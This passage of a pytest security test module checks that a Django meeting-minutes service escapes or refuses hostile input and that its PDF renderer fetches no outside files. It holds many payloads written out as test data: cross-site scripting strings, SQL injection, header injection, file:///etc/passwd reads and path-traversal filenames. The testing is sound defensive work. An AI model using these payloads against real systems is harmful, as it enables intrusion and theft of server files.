"""Hostile input through the forms: nothing unescaped reaches a page, and nothing answers 500.

The payloads are the usual cross-site scripting shapes and malformed values; each goes into the
text fields of the forms people use most and the query parameters of the searchable lists, and the
pages that show them are read back. The same texts are taken through approval into the minutes PDF
(read back with pypdf: no script, no action, no file fetched, the text drawn as typed) and the
published pages; hostile files go through every upload (papers, feedback answers, the translation
spreadsheet), and the translation spreadsheet the service writes holds text, never a formula.
"""

import csv
import datetime
import io
import re
import threading
import zipfile
from email.message import Message
from html import escape, unescape
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from PIL import Image
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject
from weasyprint import HTML

from actions import services as action_services
from actions.enums import AnswerPer
from actions.models import FeedbackResponse
from meetings import circulation, services
from meetings import translation as translation_module
from meetings.document import split_blocks
from meetings.enums import AttendanceStatus
from meetings.models import AgendaItem, Decision, Meeting, Paper
from meetings.pdf import STYLESHEET, StylesheetAndFontsOnly
from steering.markup import link_problems, to_html
from steering.models import Person
from steering.text import (
    ACTION_MAX,
    DECISION_MAX,
    MINUTES_MAX,
    TERMS_OF_REFERENCE_MAX,
    multiline,
    one_line,
)
from workstreams.models import GlossaryEntry, TermsOfReference

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{ 7*7 }}",
    "{% debug %}",
    "${7*7}",
    "%(name)s %s %d",
    "\u202egnp.exe",
    "\x00null byte",
    "a" * 5000,
    "' OR 1=1 --",
    '"; DROP TABLE meetings_meeting; --',
    "<!--",
    "]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<marquee onstart=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<base href=javascript:alert(1)//>",
    "<x onclick=alert(1)>click",
    "**<script>alert(1)</script>**",
    "- <img src=x onerror=alert(1)>",
    "Grŵp ŷ ẁ ẃ ẅ ỳ \U0001f600",
    "\r\nSet-Cookie: x=1",
    "%0d%0aLocation: https://example.org",
    "<",
    ">",
]

ACTION_LOG_PARAMETERS = [
    "q",
    "status",
    "owner_organisation",
    "owner_person",
    "meeting",
    "overdue",
    "due_from",
    "due_to",
    "sort",
    "page",
    "export",
]
DECISIONS_PARAMETERS = ["q", "meeting", "from_date", "to_date"]

OWN_SCRIPTS = {
    "/static/js/supported.js",
    "/static/js/init.mjs",
    "/static/js/minutes-autosave.mjs",
    "/static/js/record-forms.mjs",
}


class _Scanner(HTMLParser):
    """Reads a page as a browser would and notes anything that could run: the page's own external
    scripts aside, any script element, event handler or javascript: address is a failure."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and attributes.get("src") not in OWN_SCRIPTS:
            self.found.append(f"<script {attributes}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value}>")
            if name in {"href", "src", "action", "formaction", "data"} and (value or "").strip().lower().startswith(
                ("javascript:", "data:text/html")
            ):
                self.found.append(f"<{tag} {name}={value}>")
        refresh = tag == "meta" and "refresh" in (attributes.get("http-equiv") or "").lower()
        if tag in {"iframe", "object", "embed", "base"} or refresh:
            self.found.append(f"<{tag}>")


def _dangerous(html: str) -> list[str]:
    scanner = _Scanner()
    scanner.feed(html)
    return scanner.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_escaped_everywhere_it_is_shown(payload, cast, client_as):
    client = client_as(cast.secretariat)
    slug = cast.group.slug
    responses = [
        client.post(
            reverse("workstreams:glossary_add", args=[slug]),
            {
                "acronym_en": payload[:20],
                "expansion_en": payload[:200],
                "acronym_cy": "",
                "expansion_cy": payload[:200],
            },
        ),
        client.post(
            reverse("workstreams:terms_of_reference_add", args=[slug]),
            {
                "text_en": payload,
                "text_cy": payload,
                "date_agreed_0": "1",
                "date_agreed_1": "1",
                "date_agreed_2": "2022",
            },
        ),
        client.post(
            reverse("workstreams:membership_add", args=[slug]),
            {
                "email": payload[:100],
                "full_name": payload[:200],
                "preferred_language": "en",
                "role": "member",
                "start_date_0": payload[:5],
                "start_date_1": "1",
                "start_date_2": "2022",
            },
        ),
    ]
    meeting = services.create_meeting(cast.group, starts_at=datetime.datetime(2022, 9, 22, 9, tzinfo=datetime.UTC))
    responses.append(client.get(reverse("meetings:item_add", args=[meeting.pk]), {"parent": payload[:50]}))
    responses.append(
        client.post(
            reverse("meetings:item_add", args=[meeting.pk]),
            {
                "title_en": payload[:300],
                "title_cy": payload[:300],
                "kind": "ordinary",
                "lead_text_en": payload[:200],
                "duration_minutes": payload[:5],
            },
        )
    )
    item = AgendaItem.objects.filter(meeting=meeting).first() or services.add_item(meeting, title_en="Fallback")
    services.mark_held(meeting, by=cast.secretariat)
    responses += [
        client.post(
            reverse("meetings:item_minutes_save", args=[meeting.pk, item.pk]),
            {
                f"item-{item.pk}-minutes_en": payload,
                f"item-{item.pk}-minutes_cy": payload,
                f"item-{item.pk}-revision": "0",
            },
        ),
        client.post(
            reverse("meetings:decision_add", args=[meeting.pk, item.pk]),
            {"decision-text_en": payload, "decision-text_cy": payload},
        ),
        client.post(
            reverse("actions:action_add", args=[meeting.pk, item.pk]),
            {
                "action-text_en": payload,
                "action-text_cy": payload,
                "action-owner_person": str(cast.member.pk),
                "action-due_date_0": payload[:3],
            },
        ),
        client.get(reverse("actions:log", args=[slug]), {"q": payload, "due_from": payload[:20], "sort": payload[:20]}),
        client.get(reverse("meetings:decisions", args=[slug]), {"q": payload, "meeting": payload[:10]}),
    ]
    # Every query parameter of the two searchable lists at once, and one of them alone (the others'
    # defaults apply), a different one for each payload, so that each is tried alone with several.
    index = PAYLOADS.index(payload)
    for url, names in (
        (reverse("actions:log", args=[slug]), ACTION_LOG_PARAMETERS),
        (reverse("meetings:decisions", args=[slug]), DECISIONS_PARAMETERS),
    ):
        responses.append(client.get(url, {names[index % len(names)]: payload[:200]}))
        responses.append(client.get(url, dict.fromkeys(names, payload[:200])))
    exports = [
        client.get(
            reverse("actions:log", args=[slug]), {**dict.fromkeys(ACTION_LOG_PARAMETERS, payload[:200]), "export": kind}
        )
        for kind in ("csv", "xlsx")
    ]
    assert [(r.status_code, r["Content-Disposition"].split(";")[0]) for r in exports] == [(200, "attachment")] * 2
    responses += exports
    responses.append(client.post(reverse("set_language"), {"language": payload[:20], "next": payload}))
    assert not responses[-1].get("Location", "").lower().lstrip().startswith(("javascript:", "data:", "//", "http"))
    assert [r.status_code for r in responses if r.status_code >= 500] == []
    pages = [r.text for r in responses if r.get("Content-Type", "").startswith("text/html")]
    for url in (
        cast.group.get_absolute_url(),
        meeting.get_absolute_url(),
        reverse("meetings:minutes_edit", args=[meeting.pk]),
        reverse("meetings:minutes_review", args=[meeting.pk]),
        reverse("actions:log", args=[slug]),
        reverse("meetings:decisions", args=[slug]),
    ):
        response = client.get(url)
        assert response.status_code < 500
        pages.append(response.text)
    anonymous = client_as(None)
    pages += [
        anonymous.get(reverse("login"), {"next": payload}).text,
        anonymous.get(reverse("password_reset"), {"next": payload}).text,
    ]
    assert [found for page in pages for found in _dangerous(page)] == []
    assert not GlossaryEntry.objects.filter(expansion_en__contains="<script>", acronym_en="").exists()


class _Visible(HTMLParser):
    """A page's text as a person reads it, spaces collapsed as a browser shows them."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.feed(html)
        self.close()
        self.text = " ".join(" ".join(self.parts).split())

    def handle_data(self, data):
        self.parts.append(data)


def _shown(value: str) -> str:
    return " ".join(value.split())


def _without_markdown(value: str) -> str:
    """A minute as it reads once its documented formatting has done its work: bullets, bold, italics."""
    value = re.sub(r"^- ", "", value, flags=re.MULTILINE)
    value = re.sub(r"\*\*(.+?)\*\*", r"\1", value)
    return re.sub(r"\*([^*]+)\*", r"\1", value)


def _kept(typed: str, *, one_line_box: bool, limit: int, markdown: bool = False) -> str | None:
    """What a form keeps of a text as typed, or None where it must refuse it with a message."""
    value = (one_line(typed) if one_line_box else multiline(typed)).strip()
    if not value or "\x00" in value or len(value) > limit or (markdown and link_problems(value)):
        return None
    return value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_saved_as_typed_and_shown_as_typed_or_refused_with_a_message(payload, cast, client_as):
    """Each field: the text is kept as typed (line breaks kept one way, one-line boxes on one line)
    and every page that shows it shows exactly that; or the form refuses it and says why."""
    client = client_as(cast.secretariat)
    slug = cast.group.slug
    meeting = services.create_meeting(cast.group, starts_at=datetime.datetime(2030, 9, 22, 9, tzinfo=datetime.UTC))
    item = services.add_item(meeting, title_en="Welcome")
    group_page = cast.group.get_absolute_url()
    # Each field's text begins with its own word, so that a page showing two of them cannot stand
    # in for the other; each is cut to what the post may send (the box's own length).
    lengths = {"acronym": 20, "meaning": 200, "place": 300, "title": 300, "lead": 200, "name": 200}
    typed = {
        field: f"{field.capitalize()} {payload}"[: lengths.get(field)]
        for field in ("acronym", "meaning", "terms", "place", "title", "lead", "name", "minutes", "decision", "action")
    }

    def newest(model, field, **where):
        row = model.objects.filter(**where).order_by("-pk").first()
        return getattr(row, field) if row else None

    fields = [
        # (what, how it is sent, where it is kept, the page that shows it, what it keeps)
        (
            "glossary acronym",
            lambda: client.post(
                reverse("workstreams:glossary_add", args=[slug]),
                {"acronym_en": typed["acronym"], "expansion_en": "Meaning"},
            ),
            lambda: newest(GlossaryEntry, "acronym_en", group=cast.group),
            group_page,
            _kept(typed["acronym"], one_line_box=True, limit=20),
        ),
        (
            "glossary meaning",
            lambda: client.post(
                reverse("workstreams:glossary_add", args=[slug]),
                {"acronym_en": "HXA", "expansion_en": typed["meaning"]},
            ),
            lambda: newest(GlossaryEntry, "expansion_en", group=cast.group),
            group_page,
            _kept(typed["meaning"], one_line_box=True, limit=200),
        ),
        (
            "terms of reference",
            lambda: client.post(
                reverse("workstreams:terms_of_reference_add", args=[slug]),
                {
                    "text_en": typed["terms"],
                    "text_cy": "Cylch gorchwyl",
                    "date_agreed_0": "1",
                    "date_agreed_1": "1",
                    "date_agreed_2": "2022",
                },
            ),
            lambda: newest(TermsOfReference, "text_en", group=cast.group),
            lambda: reverse(
                "workstreams:terms_of_reference", args=[slug, newest(TermsOfReference, "version", group=cast.group)]
            ),
            _kept(typed["terms"], one_line_box=False, limit=TERMS_OF_REFERENCE_MAX),
        ),
        (
            "place",
            lambda: client.post(
                reverse("meetings:edit", args=[meeting.pk]),
                {"date_0": "22", "date_1": "9", "date_2": "2030", "start_time": "10:00", "place_en": typed["place"]},
            ),
            lambda: Meeting.objects.get(pk=meeting.pk).place_en or None,
            meeting.get_absolute_url(),
            _kept(typed["place"], one_line_box=True, limit=300),
        ),
        (
            "item title",
            lambda: client.post(
                reverse("meetings:item_add", args=[meeting.pk]), {"title_en": typed["title"], "kind": "ordinary"}
            ),
            lambda: newest(AgendaItem, "title_en", meeting=meeting, position__gt=1),
            meeting.get_absolute_url(),
            _kept(typed["title"], one_line_box=True, limit=300),
        ),
        (
            "item lead",
            lambda: client.post(
                reverse("meetings:item_edit", args=[meeting.pk, item.pk]),
                {"title_en": "Welcome", "kind": "ordinary", "lead_text_en": typed["lead"]},
            ),
            lambda: AgendaItem.objects.get(pk=item.pk).lead_text_en or None,
            meeting.get_absolute_url(),
            _kept(typed["lead"], one_line_box=True, limit=200),
        ),
        (
            "member's own name",
            lambda: client_as(cast.member).post(
                reverse("account"), {"full_name": typed["name"], "preferred_language": "en"}
            ),
            lambda: Person.objects.get(pk=cast.member.pk).full_name,
            group_page,
            _kept(typed["name"], one_line_box=True, limit=200),
        ),
    ]
    original_name = cast.member.full_name
    results = []
    for what, send, stored, page, expected in fields:
        before = stored()
        response = send()
        after = stored()
        if expected is None:
            refused = after == before and response.status_code in (200, 400) and "govuk-error-summary" in response.text
            results.append((what, "refused with a message" if refused else f"kept {after!r}"))
            continue
        shown = _Visible(client_as(cast.secretariat).get(page() if callable(page) else page).text).text
        results.append((what, after == expected and _shown(expected) in shown))
    assert results == [
        (what, True if expected is not None else "refused with a message") for what, _s, _k, _p, expected in fields
    ], original_name

    # The minutes, a decision and an action, written in the editor and read on the chair's review page.
    services.mark_held(meeting, by=cast.secretariat)
    client = client_as(cast.secretariat)
    client.post(
        reverse("meetings:item_minutes_save", args=[meeting.pk, item.pk]),
        {f"item-{item.pk}-minutes_en": typed["minutes"], f"item-{item.pk}-revision": "0"},
    )
    client.post(reverse("meetings:decision_add", args=[meeting.pk, item.pk]), {"decision-text_en": typed["decision"]})
    client.post(
        reverse("actions:action_add", args=[meeting.pk, item.pk]),
        {"action-text_en": typed["action"], "action-owner_person": str(cast.member.pk)},
    )
    item.refresh_from_db()
    kept = {
        "minutes": item.minutes_en or None,
        "decision": newest(Decision, "text_en", item=item),
        "action": item.actions.values_list("text_en", flat=True).first(),
    }
    expected = {
        "minutes": _kept(typed["minutes"], one_line_box=False, limit=MINUTES_MAX, markdown=True),
        "decision": _kept(typed["decision"], one_line_box=False, limit=DECISION_MAX),
        "action": _kept(typed["action"], one_line_box=False, limit=ACTION_MAX),
    }
    assert kept == expected
    review = _Visible(client.get(reverse("meetings:minutes_review", args=[meeting.pk])).text).text
    readable = {
        "minutes": _without_markdown(expected["minutes"]) if expected["minutes"] else None,
        "decision": expected["decision"],
        "action": expected["action"],
    }
    assert {what: _shown(text) in review for what, text in readable.items() if text} == {
        what: True for what, text in readable.items() if text
    }


def test_the_scanner_finds_what_a_browser_would_run():
    page = '<p>&lt;img src=x onerror=alert(1)&gt;</p><img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>'
    assert _dangerous(page) == ["<img onerror=alert(1)>", "<a href=javascript:alert(1)>"]


# The minutes PDF and the published pages --------------------------------------------------------


class _Recorder(BaseHTTPRequestHandler):
    """A web server on loopback that notes every request: the PDF must make none."""

    def do_GET(self):
        self.server.requests.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_HEAD = do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def loopback():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def _fetching_payloads(web: str, secret: Path) -> list[str]:
    """Texts that would make a renderer fetch something: a file on the server, or an address."""
    host = web.removeprefix("http:")
    return [
        f"![x]({web}/markdown-image.png)",
        f"![x](file://{secret})",
        "![x](file:///etc/passwd)",
        '<img src="file:///etc/hostname">',
        f'<img src="{web}/img.png">',
        f"<link rel=stylesheet href=file://{secret}>",
        f"<link rel=stylesheet href={web}/style.css>",
        f'<p style="background:url(file://{secret})">styled</p>',
        f'<p style="background:url({web}/background.png)">styled</p>',
        f"<style>@import url({web}/import.css); p {{ background: url(file://{secret}) }}</style>",
        f'<a rel=attachment href="file://{secret}">attached</a>',
        f'<a rel="attachment" href="{web}/attachment.txt">attached</a>',
        f'<a rel="attachment" href="../../../../../../../..{secret}">attached</a>',
        f"[relative](../../../../../../../..{secret})",
        f"[absolute path]({secret})",
        f"[network path]({host}/network-path)",
        "[fragment](#top)",
        f"<object data={web}/object></object><iframe src={web}/frame></iframe><embed src={web}/embed>",
        f'<svg><image href="{web}/svg.png"/></svg><video poster="{web}/poster.png"></video>',
        f"[an ordinary link]({web}/link)",
    ]


def _comparable(text: str) -> str:
    """The text as a PDF's text layer gives it back: no spacing or line breaks, no control or bidi
    characters, and nothing the document's font cannot draw (an emoji)."""
    return "".join(ch for ch in text if ch.isprintable() and not ch.isspace() and ord(ch) < 0x10000)


def _pdf_dangers(pdf: bytes) -> list[str]:
    """Anything in a PDF that runs, opens, launches or carries another file, or an image (the
    minutes have none, so an image would be something fetched)."""
    reader = PdfReader(io.BytesIO(pdf))
    found, seen, stack = [], set(), [reader.trailer]
    while stack:
        node = stack.pop()
        if isinstance(node, IndirectObject):
            if (node.idnum, node.generation) in seen:
                continue
            seen.add((node.idnum, node.generation))
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            for key in ("/JS", "/JavaScript", "/AA", "/OpenAction", "/EmbeddedFiles", "/EmbeddedFile", "/Launch"):
                if key in node:
                    found.append(key)
            if node.get("/S") in ("/JavaScript", "/Launch", "/GoToR", "/GoToE", "/ImportData", "/SubmitForm"):
                found.append(f"action {node['/S']}")
            if node.get("/Subtype") in ("/FileAttachment", "/Image", "/Screen", "/Movie", "/Sound", "/RichMedia"):
                found.append(f"subtype {node['/Subtype']}")
            uri = str(node.get("/URI", "")).strip().lower()
            if uri and not uri.startswith(("http://", "https://", "mailto:")):
                found.append(f"/URI {node['/URI']}")
            stack += [value for key, value in node.items() if key != "/Parent"]
        elif isinstance(node, ArrayObject):
            stack += list(node)
    return found


def _is_drawn(value: str, drawn: str, length: int = 200) -> bool:
    """``value`` is in the PDF's text; after a right-to-left override, it is drawn (and read) backwards."""
    wanted = _comparable(value)[:length]
    return wanted in drawn or ("\u202e" in value and wanted[::-1] in drawn)


def _pdf_text(pdf: bytes) -> str:
    return _comparable("".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages))


def test_hostile_minutes_reach_the_pdf_and_the_published_pages_as_text(
    cast, client_as, loopback, tmp_path, django_capture_on_commit_callbacks
):
    secret = tmp_path / "secret.txt"
    secret.write_text("CANARY-a81f3c secret on the server")
    web = f"http://127.0.0.1:{loopback.server_address[1]}"
    # Forms refuse a NUL (and PostgreSQL cannot store one); everything else goes in as typed.
    texts = [text.replace("\x00", "") for text in PAYLOADS + _fetching_payloads(web, secret)]
    secretariat = cast.secretariat

    group = cast.group
    group.name_en, group.name_cy = '<b onmouseover="alert(1)">ALN</b> & co', "Grŵp <script>alert(1)</script>"
    group.save()
    cast.member.full_name = '"><img src=x onerror=alert(1)> Member'
    cast.member.save()
    organisation = cast.group.memberships.get(person=cast.member).organisation
    organisation.name_en, organisation.name_cy = "<svg/onload=alert(1)> Council", "Cyngor <x onclick=alert(1)>"
    organisation.save()
    GlossaryEntry.objects.create(group=group, acronym_en="HXA", expansion_en=texts[1], expansion_cy=texts[2])
    meeting = services.create_meeting(
        group,
        starts_at=datetime.datetime(2022, 9, 22, 9, tzinfo=datetime.UTC),
        place_en=texts[0][:300],
        place_cy=texts[3][:300],
    )
    items = [services.add_item(meeting, title_en=text[:300], title_cy=text[::-1][:300]) for text in texts]
    acronyms = services.add_item(meeting, title_en="HXA", title_cy="HXA")
    for text, item in zip(texts, items, strict=True):
        services.add_paper(
            item,
            by=secretariat,
            title_en=text[:300],
            title_cy=text[:300],
            file_en=SimpleUploadedFile("paper.pdf", b"%PDF-1.7\n"),
            filename_en=text[:255],
        )
    minutes = services.mark_held(meeting, by=secretariat)
    services.record_attendance(
        meeting,
        [{"membership": m, "status": AttendanceStatus.PRESENT} for m in group.memberships.all()],
        by=secretariat,
    )
    for text in texts:
        services.add_guest(meeting, name=text[:200], organisation=organisation)
    for text, item in zip(texts, items, strict=True):
        services.save_item_minutes(item, minutes_en=text, minutes_cy=text[:300], revision=0, by=secretariat)
        # The very long text once, in the minutes: elsewhere its first 300 letters, to keep the PDF short.
        services.add_decision(item, text_en=text[:300], text_cy=text[::-1][:300], by=secretariat)
        action_services.record_action(
            item,
            text_en=text[:300],
            text_cy=text[:300],
            owner_person=cast.member,
            owner_organisation=organisation,
            due_date=None,
            by=secretariat,
        )
    services.save_item_minutes(acronyms, minutes_en="HXA", minutes_cy="HXA", revision=0, by=secretariat)
    services.submit_minutes(minutes, by=secretariat)
    services.approve_minutes(minutes, by=cast.chair)
    correction = services.start_correction(minutes, reason_en=texts[5], reason_cy=texts[7], by=secretariat)
    services.submit_minutes(correction, by=secretariat)
    services.approve_minutes(correction, by=cast.chair)
    with django_capture_on_commit_callbacks(execute=True):
        published = circulation.publish_minutes(correction, by=secretariat)  # renders the PDF once

    published.refresh_from_db()
    pdf = published.pdf.open("rb").read()
    assert _pdf_dangers(pdf) == []
    assert loopback.requests == []
    drawn = _pdf_text(pdf)
    assert "CANARY" not in drawn
    assert "root:x:0:0" not in drawn
    # What is shown as plain text (not Markdown) is drawn as typed: markup escaped, not interpreted.
    plain = [
        *(text[:300] for text in texts),  # item and paper titles
        *(text[:200] for text in texts),  # guests
        group.name_en,
        group.name_cy,
        cast.member.full_name,
        organisation.name_en,
        organisation.name_cy,
        texts[0][:300],
        texts[3][:300],
        texts[1],
        texts[5],
        texts[7],
    ]
    assert [value for value in plain if not _is_drawn(value, drawn)] == []
    # Decisions and actions, in each language: long ones may be cut by a page's header and footer.
    welsh = [value[::-1][:300] for value in texts]
    assert [value for value in texts + welsh if not _is_drawn(value, drawn, 100)] == []

    client = client_as(cast.member)
    pages = [client.get(reverse("meetings:published", args=[meeting.pk, 2, lang])) for lang in ("cy", "en")]
    assert [page.status_code for page in pages] == [200, 200]
    assert [found for page in pages for found in _dangerous(page.text)] == []
    assert loopback.requests == []


def test_the_pdf_renderer_reads_its_stylesheet_and_fonts_and_nothing_else(tmp_path, loopback):
    """Were markup ever to slip past the cleaning, WeasyPrint's fetcher still reads no other file and
    asks no server: the test gives it HTML straight, without the cleaning."""
    web = f"http://127.0.0.1:{loopback.server_address[1]}"
    Image.new("RGB", (8, 8), "red").save(tmp_path / "secret.png")
    (tmp_path / "secret.css").write_text('p::after { content: "CANARY-css" }')
    (tmp_path / "secret.txt").write_text("CANARY-txt")
    escape_from_static = f"{STYLESHEET.parent}/../../manage.py"
    html = f"""
        <link rel="stylesheet" href="file://{tmp_path}/secret.css"><link rel="stylesheet" href="{web}/x.css">
        <style>@import url(file://{tmp_path}/secret.css); @import url({web}/import.css);</style>
        <p style="background: url(file://{tmp_path}/secret.png)">text</p>
        <img src="file://{tmp_path}/secret.png"><img src="../../../../../../../..{tmp_path}/secret.png">
        <img src="{web}/x.png"><img src="file://{escape_from_static}">
        <a rel="attachment" href="file://{tmp_path}/secret.txt">a</a><a rel="attachment" href="{web}/x.txt">b</a>
        <object data="file://{tmp_path}/secret.txt"></object><iframe src="file://{tmp_path}/secret.txt"></iframe>
    """
    fetcher = StylesheetAndFontsOnly(allowed_protocols={"file"})
    pdf = HTML(string=html, base_url=str(STYLESHEET.parent), url_fetcher=fetcher).write_pdf()

    assert _pdf_dangers(pdf) == []
    assert "CANARY" not in _pdf_text(pdf)
    assert loopback.requests == []
    assert fetcher.fetch(STYLESHEET.as_uri()).read().startswith(b"/*")
    for refused in (f"file://{escape_from_static}", "file:///etc/passwd", f"{web}/x", "file://127.0.0.1/etc/passwd"):
        with pytest.raises(ValueError, match="Not the minutes"):
            fetcher.fetch(refused)


@pytest.mark.parametrize(
    ("markdown", "href"),
    [
        ("[a](https://gov.wales/ald)", "https://gov.wales/ald"),
        ("[a](mailto:aln@gov.wales)", "mailto:aln@gov.wales"),
        ("[a](../../../../etc/passwd)", None),
        ("[a](/etc/passwd)", None),
        ("[a](//127.0.0.1:8000/x)", None),
        ("[a](#top)", None),
        ('<a href="file:///etc/passwd">a</a>', None),
        ("[a](javascript:alert(1))", None),
    ],
)
def test_a_link_in_the_pdf_goes_to_the_web_or_an_email_address_only(markdown, href):
    """WeasyPrint makes a relative address a file: address on the server; such a link is no link,
    and its text is drawn as typed, as on the page."""
    (block,) = split_blocks(to_html(markdown))
    assert re.findall(r'<a [^>]*href="([^"]*)"', block) == ([href] if href else [])
    assert ">a</a>" in block if href else unescape(re.sub(r"<[^>]+>", "", block)) == markdown


# Uploaded files ---------------------------------------------------------------------------------

PDF_BYTES = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_IMAGE = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
LIMIT = 4096  # PAPER_MAX_BYTES, made small for these tests


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _multipart(fields: dict[str, str], files: dict[str, tuple[str, bytes]]) -> tuple[bytes, str]:
    """A form's body as an attacker may write it: the file's name goes out exactly as given (the test
    client would keep only its last part), as ``filename="…"`` or RFC 2231's ``filename*=``."""
    boundary = "hostile-boundary-7f3a9c"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    for name, (filename, content) in files.items():
        head = f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; {filename}\r\n'
        parts.append(f"{head}Content-Type: application/pdf\r\n\r\n".encode() + content + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


WRONG_KIND = "The file must be a PDF, DOCX, ODT or XLSX document"
EMPTY = "The submitted file is empty."
TOO_BIG = "The file must be smaller than 4.0\xa0KB"
NO_FILE = "Choose a file for the English or the Welsh version, or both"


def _not_real(kind: str) -> str:
    return f"The file is not a real {kind} document. Save it again as {kind} and upload that"


# (what is sent as the file's name, its contents, the name kept for it, or the error shown)
UPLOADS = {
    "script in the name": (
        'filename="<img src=x onerror=alert(1)>.pdf"',
        PDF_BYTES,
        "<img src=x onerror=alert(1)>.pdf",
    ),
    "quote in the name": (r'filename="\"><svg onload=alert(1)>.pdf"', PDF_BYTES, '"><svg onload=alert(1)>.pdf'),
    "header in the name": (
        r'filename="a\";filename=evil.html;x=\".pdf"',
        PDF_BYTES,
        'a";filename=evil.html;x=".pdf',
    ),
    "relative path": ('filename="../../../../etc/passwd.pdf"', PDF_BYTES, "passwd.pdf"),
    "absolute path": ('filename="/etc/passwd.pdf"', PDF_BYTES, "passwd.pdf"),
    "backslashes": (r'filename="..\..\windows\system32\evil.pdf"', PDF_BYTES, "evil.pdf"),
    "control characters": (
        "filename*=UTF-8''evil%00%0d%0aSet-Cookie%3a%20x%3d1%1b%5b31m%e2%80%ae.pdf",
        PDF_BYTES,
        "evilSet-Cookie: x=1[31m.pdf",
    ),
    "raw control bytes": ('filename="evil\x01\x08\x7f.pdf"', PDF_BYTES, "evil.pdf"),
    "Welsh letters": ("filename*=UTF-8''Papur%20%C5%B5%C5%B7.pdf", PDF_BYTES, "Papur ŵŷ.pdf"),
    "very long name": (f'filename="{"a" * 600}.pdf"', PDF_BYTES, "a" * 251 + ".pdf"),
    "name too long to parse": (f'filename="{"a" * 5000}.pdf"', PDF_BYTES, 400),  # Django: bad request
    "just under the limit": ('filename="big.pdf"', PDF_BYTES.ljust(LIMIT, b" "), "big.pdf"),
    "name of dots": ('filename=".."', PDF_BYTES, NO_FILE),  # no usable name: as if no file came
    "html after pdf": ('filename="x.pdf.html"', PDF_BYTES, WRONG_KIND),
    "svg": ('filename="x.svg"', SVG_IMAGE, WRONG_KIND),
    "no extension": ('filename="pdf"', PDF_BYTES, WRONG_KIND),
    "html named pdf": ('filename="x.html.pdf"', HTML_PAGE, _not_real("PDF")),
    "svg named pdf": ('filename="x.pdf"', SVG_IMAGE, _not_real("PDF")),
    "zip named pdf": ('filename="x.pdf"', _zip({"word/document.xml": b"<w/>"}), _not_real("PDF")),
    "pdf named docx": ('filename="x.docx"', PDF_BYTES, _not_real("DOCX")),
    "malformed zip named xlsx": ('filename="x.xlsx"', b"PK\x03\x04" + b"\xff" * 200, _not_real("XLSX")),
    "zip without a workbook": ('filename="x.xlsx"', _zip({"word/document.xml": b"<w/>"}), _not_real("XLSX")),
    "empty": ('filename="empty.pdf"', b"", EMPTY),
    "just over the limit": ('filename="big.pdf"', PDF_BYTES.ljust(LIMIT + 1, b" "), TOO_BIG),
}


def _media_files(root: Path) -> list[Path]:
    return sorted(path for path in root.rglob("*") if path.is_file())


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PAPER_MAX_BYTES = LIMIT
    return settings


@pytest.fixture
def feedback_request(cast):
    return action_services.create_feedback_request(
        cast.group,
        organisations=[],
        by=cast.secretariat,
        title_en="Scenario paper",
        title_cy="Papur senario",
        question_en="Does it meet requirements?",
        question_cy="A yw'n bodloni'r gofynion?",
        deadline=datetime.date.today() + datetime.timedelta(days=3),
